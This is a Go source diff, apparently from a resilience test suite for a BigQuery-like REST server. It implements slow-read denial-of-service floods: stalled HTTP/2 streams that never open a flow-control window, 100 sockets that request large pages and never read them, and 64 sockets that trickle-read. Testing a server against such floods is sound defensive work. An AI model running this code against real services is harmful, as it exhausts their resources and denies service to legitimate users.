@@ -1,0 +1,180 @@
+package main
+
+import (
+	"context"
+	"errors"
+	"io"
+	"net"
+	"syscall"
+	"time"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+)
+
+// readers ask for pages of nine megabytes and read little of them, or nothing (A37).
+var readers = []flood{
+	{"stalled-streams", "4 HTTP/2 connections with 16 result streams each, never read",
+		func(ctx context.Context, a attacker, t *tally, ready func()) error {
+			page, err := a.bigPage(ctx, wide)
+			if err != nil {
+				return err
+			}
+			ready()
+			crowd(ctx, 4, func(ctx context.Context, _ int) { a.stalledStreams(ctx, t, page, 16) })
+			return nil
+		}},
+	{"stalled-sockets", "100 HTTP/1.1 sockets that ask for a page and never read",
+		func(ctx context.Context, a attacker, t *tally, ready func()) error {
+			return a.slowSockets(ctx, t, ready, 100, func(ctx context.Context, c net.Conn) error { return waitForEnd(ctx, c) })
+		}},
+	{"trickle", "64 sockets that read 512 bytes of a page every second",
+		func(ctx context.Context, a attacker, t *tally, ready func()) error {
+			return a.slowSockets(ctx, t, ready, 64, func(ctx context.Context, c net.Conn) error {
+				buf := make([]byte, 512)
+				for ctx.Err() == nil {
+					if _, err := c.Read(buf); err != nil {
+						return err
+					}
+					wait(ctx, time.Second)
+				}
+				return nil
+			})
+		}},
+}
+
+// slowSockets asks for a page on n sockets, and again when one is closed.
+func (a attacker) slowSockets(ctx context.Context, t *tally, ready func(), n int, read func(context.Context, net.Conn) error) error {
+	page, err := a.bigPage(ctx, wide)
+	if err != nil {
+		return err
+	}
+	ready()
+	dialer := net.Dialer{Timeout: 5 * time.Second, Control: func(_, _ string, raw syscall.RawConn) error {
+		return raw.Control(func(fd uintptr) { syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF, 2048) })
+	}}
+	crowd(ctx, n, func(ctx context.Context, i int) {
+		wait(ctx, time.Duration(i)*10*time.Millisecond)
+		c, err := dialer.DialContext(ctx, "tcp", a.REST)
+		if err != nil {
+			t.add(shortened(err).Error(), 1)
+			return
+		}
+		defer c.Close()
+		defer context.AfterFunc(ctx, func() { c.Close() })()
+		if _, err := c.Write(a.request("GET", page)); err != nil {
+			return
+		}
+		t.add("asked", 1)
+		if err := read(ctx, c); err != nil && ctx.Err() == nil {
+			t.add("closed by the other side", 1)
+		}
+	})
+	return nil
+}
+
+// waitForEnd returns when the other side has closed the connection. It looks without reading.
+func waitForEnd(ctx context.Context, c net.Conn) error {
+	raw, err := c.(*net.TCPConn).SyscallConn()
+	if err != nil {
+		return err
+	}
+	for ctx.Err() == nil {
+		var ended error
+		raw.Control(func(fd uintptr) {
+			info, err := syscall.GetsockoptInt(int(fd), syscall.IPPROTO_TCP, syscall.TCP_INFO)
+			const established = 1 // the first byte of struct tcp_info is the state
+			if err != nil || info&0xff != established {
+				ended = io.EOF
+			}
+		})
+		if ended != nil {
+			return ended
+		}
+		wait(ctx, time.Second)
+	}
+	return nil
+}
+
+// stalledStreams asks for a page on each stream of one connection, and never opens a window.
+func (a attacker) stalledStreams(ctx context.Context, t *tally, page string, streams int) {
+	c, err := net.DialTimeout("tcp", a.REST, 5*time.Second)
+	if err != nil {
+		t.add(shortened(err).Error(), 1)
+		wait(ctx, time.Second)
+		return
+	}
+	defer c.Close()
+	defer context.AfterFunc(ctx, func() { c.Close() })()
+	h, err := newHTTP2(c)
+	if err != nil {
+		return
+	}
+	id := uint32(1)
+	ask := func() error {
+		t.add("asked", 1)
+		err := h.get(id, "/bigquery/v2/projects/"+a.Project+page, a.Bearer)
+		id += 2
+		return err
+	}
+	for range streams {
+		if ask() != nil {
+			return
+		}
+	}
+	for ctx.Err() == nil {
+		f, err := h.ReadFrame()
+		if err != nil {
+			if ctx.Err() == nil {
+				t.add("connections closed by the other side", 1)
+			}
+			return
+		}
+		switch f := f.(type) {
+		case *http2.SettingsFrame:
+			if !f.IsAck() {
+				h.WriteSettingsAck()
+			}
+		case *http2.PingFrame:
+			if !f.IsAck() {
+				h.WritePing(true, f.Data)
+			}
+		case *http2.RSTStreamFrame:
+			t.add("streams reset", 1)
+			if ask() != nil {
+				return
+			}
+		}
+	}
+}
+
+// http2conn is an HTTP/2 connection of somebody who does not keep to good manners.
+type http2conn struct {
+	*http2.Framer
+	headers *hpack.Encoder
+	block   *blockBuffer
+}
+
+type blockBuffer struct{ b []byte }
+
+func (b *blockBuffer) Write(p []byte) (int, error) { b.b = append(b.b, p...); return len(p), nil }
+
+func newHTTP2(c net.Conn) (*http2conn, error) {
+	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
+		return nil, err
+	}
+	block := &blockBuffer{}
+	h := &http2conn{http2.NewFramer(c, c), hpack.NewEncoder(block), block}
+	return h, errors.Join(h.WriteSettings())
+}
+
+func (h *http2conn) get(id uint32, path, bearer string) error {
+	h.block.b = h.block.b[:0]
+	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", "neighbours"}, {":path", path},
+		{"authorization", "Bearer " + bearer}} {
+		h.headers.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
+	}
+	return h.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.block.b, EndStream: true, EndHeaders: true})
+}
+
+func newDecoder() *hpack.Decoder { return hpack.NewDecoder(4096, nil) }
